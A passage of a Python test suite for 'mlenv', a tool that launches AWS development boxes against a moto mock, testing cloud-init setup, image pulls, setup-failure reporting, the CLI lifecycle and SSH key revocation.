    digest = docker_client.images.get(f"{repository}:v1").attrs["RepoDigests"][0].split("@")[1]
    image_ref = f"{repository}@{digest}"
    docker_client.images.remove(f"{repository}:v1", force=True)  # the box gets it from the registry only
    with pytest.raises(docker.errors.APIError):
        docker_client.images.pull(image_ref)  # nobody gets in without the ECR token

    box = f"reg{uuid.uuid4().hex[:8]}"
    made_on_host = [path for path in ("/srv/mlenv", os.path.dirname(KEEPALIVE_DIR)) if not os.path.exists(path)]
    credentials = {key: aws[key] for key in ("AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY", "AWS_ENDPOINT_URL")}
    try:
        script = cloudinit.render(user_data(box=box, image_ref=image_ref, ecr_region="eu-west-1"))
        output = boot_host.boot(script, "ubuntu", "image-box", env=credentials)
        assert f"image pulled: {image_ref}" in output
        running = docker_client.containers.get(container_name(box))
        assert running.status == "running" and running.attrs["Config"]["Image"] == image_ref
        assert image_ref in docker_client.images.get(running.attrs["Image"]).attrs["RepoDigests"]
        assert f"{KEEPALIVE_DIR}:{KEEPALIVE_DIR}" in running.attrs["HostConfig"]["Binds"]
        assert "docker" in boot_host.sh("id -nG ubuntu").split()  # `mlenv ssh` runs docker exec as the user
        # the ECR token was used and thrown away: nowhere on the box's disk
        password = moto_ecr_password(moto_server)
        stored = base64.b64encode(f"AWS:{password}".encode()).decode()
        assert f"mlenv: image pulled: {image_ref}" in boot_host.sh(f"cat {cloudinit.SETUP_LOG}", user="ubuntu")
        left = boot_host.container.exec_run(["grep", "-rlF", "-e", password, "-e", stored, "/root", "/tmp", "/etc",
                                             "/var/lib/mlenv", "/var/log", "/home"])
        assert left.exit_code == 1, left.output.decode()
    finally:
        for container in docker_client.containers.list(all=True, filters={"name": container_name(box)}):
            container.remove(force=True)
        for image in docker_client.images.list(name=repository):
            docker_client.images.remove(image.id, force=True)
        for path in made_on_host:
            shutil.rmtree(path, ignore_errors=True)


@pytest.mark.docker
@pytest.mark.network  # sshd comes from the Debian mirror when the machine has none yet
def test_a_setup_failure_after_the_keys_is_told_from_the_setup_log_on_the_box(boot_host, docker_client):
    """The first-boot script for real, failing after the host keys (its image cannot be pulled): its
    whole output is also in the setup log, which the login user can read, and `up`'s reading of that
    log (here through the engine instead of SSH) reports the failure with the failing command's stderr."""
    import docker

    from mlenv.boxes import cloudinit
    from mlenv.boxes.aws import AWSProvider
    from mlenv.boxes.model import Box
    from mlenv.errors import BoxSetupError, ExitCode
    from mlenv.execute import ContainerExecutor

    image_ref = "127.0.0.1:9/unreachable/demo@sha256:" + "0" * 64
    (boot_host.scripts / "failing-box").write_text(cloudinit.render(user_data(box="bad1", image_ref=image_ref)))
    boot_host.sh("id -u ubuntu >/dev/null 2>&1 || useradd -m -s /bin/bash ubuntu")
    code, output = boot_host.container.exec_run(["bash", "/var/lib/cloud/scripts/failing-box"],
                                                environment=boot_host.environment)
    console = output.decode()
    assert code != 0 and cloudinit.parse_host_keys(console) and cloudinit.FAILED_MARKER in console, console[-3000:]
    assert console.index(cloudinit.KEYS_BEGIN) < console.index("mlenv: watchdog running")
    log = boot_host.sh(f"cat {cloudinit.SETUP_LOG}", user="ubuntu")
    assert boot_host.sh(f"stat -c %a {cloudinit.SETUP_LOG}").strip() == "644"
    # stdout and stderr both, in the log as on the console (two streams: lines may interleave differently)
    assert sorted(log.splitlines()) == sorted(console.splitlines())
    lines: list[str] = []
    box = Box(name="bad1", provider="aws", state="running", extra={"instance_id": "i-0123456789abcdef0"})
    with pytest.raises(BoxSetupError) as failure:
        AWSProvider()._follow_setup_log(ContainerExecutor(boot_host.container.name), box, time.monotonic() + 60,
                                        lines.append)
    assert lines == ["watchdog running"]  # the script's progress, as `up` prints it
    error = failure.value
    assert error.exit_code == ExitCode.BOX_SETUP and error.box_kept
    quoted = error.message.split(f"The end of {cloudinit.SETUP_LOG}:")[1].splitlines()[1:]
    assert 1 < len(quoted) <= 15 and quoted[-1].strip().startswith(f"{cloudinit.FAILED_MARKER} line ")
    assert any("127.0.0.1:9" in line for line in quoted[:-1])  # docker pull's own error
    assert error.message.startswith("the first-boot setup of box bad1 failed; the box is kept.")
    assert "`mlenv ssh bad1` to look, `mlenv down bad1 --yes` to delete it" in error.hint
    with pytest.raises(docker.errors.NotFound):
        docker_client.containers.get("mlenv-box-bad1")  # nothing ran after the failure


def test_the_cli_as_the_readme_shows(aws, project):
    """up --dry-run / up / up again / ls / stop / start / gc / down through `mlenv`, pointed at moto
    by AWS_ENDPOINT_URL alone."""
    def mlenv(*args: str):
        result = run_mlenv(*args, cwd=project)
        assert result.returncode == 0, result.stdout + result.stderr
        return result

    empty = {"instances": [], "key_pairs": [], "groups": [], "volumes": [], "alarms": []}
    plan = mlenv("up", "gpu1", "--provider", "aws", "--dry-run").stdout
    assert "t3.medium" in plan and f"from {CALLER_IP}/32 only" in plan and tagged_resources() == empty
    mlenv("up", "gpu1", "--provider", "aws", "--yes", "--idle", "20m", "--no-wait")
    mlenv("up", "gpu1", "--provider", "aws", "--yes", "--no-wait")  # idempotent: finds it by its tags
    listed = json.loads(mlenv("ls", "--json", "--provider", "aws").stdout)
    assert [(b["name"], b["provider"], b["state"], b["instance_type"]) for b in listed] == \
        [("gpu1", "aws", "running", "t3.medium")]
    assert len(tagged_resources()["instances"]) == 1
    mlenv("stop", "gpu1", "--provider", "aws")
    assert json.loads(mlenv("ls", "--json", "--provider", "aws").stdout)[0]["state"] == "stopped"
    mlenv("start", "gpu1", "--provider", "aws")
    assert json.loads(mlenv("ls", "--json", "--provider", "aws").stdout)[0]["state"] == "running"
    old_tags = [{"Key": "mlenv:box", "Value": "old"}, {"Key": "mlenv:project", "Value": "demo"}]
    boto("ec2").create_security_group(GroupName="mlenv-demo-old", Description="left by a killed up",
                                      TagSpecifications=[{"ResourceType": "security-group", "Tags": old_tags}])
    orphans = json.loads(mlenv("gc", "--json", "--provider", "aws").stdout)
    assert [(o["kind"], o["box"]) for o in orphans] == [("security-group", "old")]
    deleted = mlenv("gc", "--yes", "--provider", "aws")
    assert "deleted 1 orphaned resource\n" in deleted.stdout + deleted.stderr
    mlenv("down", "gpu1", "--yes", "--provider", "aws")
    assert tagged_resources() == empty
    assert json.loads(mlenv("ls", "--json", "--provider", "aws").stdout) == []


def test_with_a_registry_the_plan_names_the_image_and_builds_nothing(aws, project):
    spec = project / "mlenv.toml"
    spec.write_text(spec.read_text() + '\n[image]\nregistry = "123456789012.dkr.ecr.eu-west-1.amazonaws.com"\n')
    text = "\n".join(provider(project).plan(request()))
    assert "environment: image 123456789012.dkr.ecr.eu-west-1.amazonaws.com/... (dev image of target cpu" in text
    assert "set [devbox] instance-profile" in text  # ECR pulls need the instance role


def test_a_large_first_boot_script_is_gzipped_and_reaches_ec2_intact(aws, project):
    from mlenv.boxes.cloudinit import USER_DATA_LIMIT

    pylock = project / "pylock.cpu.toml"
    pylock.write_text(pylock.read_text() + "".join(f"# padding line {n}\n" for n in range(2000)))
    box = provider(project).up(request("big1"), lambda line: None)
    ec2 = boto("ec2")
    raw = base64.b64decode(ec2.describe_instance_attribute(InstanceId=box.extra["instance_id"],
                                                           Attribute="userData")["UserData"]["Value"])
    assert raw[:2] == b"\x1f\x8b" and len(raw) <= USER_DATA_LIMIT  # gzip, which cloud-init unpacks itself
    script = user_data_of(ec2, box.extra["instance_id"])
    assert script.startswith("#!/bin/bash\n") and "-----MLENV BOX READY-----" in script
    assert len(script.encode()) > USER_DATA_LIMIT  # it would not have fitted as it is


def test_console_output_as_ec2_returns_it_base64_encoded():
    from mlenv.boxes.aws import _console_text
    from mlenv.boxes.cloudinit import parse_host_keys

    encoded = base64.b64encode(recorded_console().encode()).decode()
    assert parse_host_keys(_console_text(encoded)) == parse_host_keys(recorded_console()) != []


def test_a_revoked_key_leaves_no_aws_key_pair_behind(aws, project):
    """`mlenv keys revoke`: the lost laptop's key must not come back with a box relaunched later."""
    from mlenv.connect.keys import local_key

    aws_provider = provider(project)
    box = aws_provider.up(request(idle_s=600, idle_connected_s=3600), lambda line: None)
    ec2 = boto("ec2")
    ec2.import_key_pair(KeyName="someone-else", PublicKeyMaterial=b"ssh-ed25519 "
                        b"AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl other",
                        TagSpecifications=[{"ResourceType": "key-pair", "Tags": [{"Key": "mlenv:box", "Value": "x"}]}])
    assert aws_provider.revoke_key("laptop", ["ssh-ed25519 AAAAnot-ours"]) == []  # another key: nothing goes
    deleted = aws_provider.revoke_key("laptop", [local_key().public_line])
    assert deleted == [f"aws key pair {aws_provider.resource_name('demo', box.name)} (laptop)"]
    remaining = [pair["KeyName"] for pair in tagged_resources()["key_pairs"]]
    assert remaining == ["someone-else"]
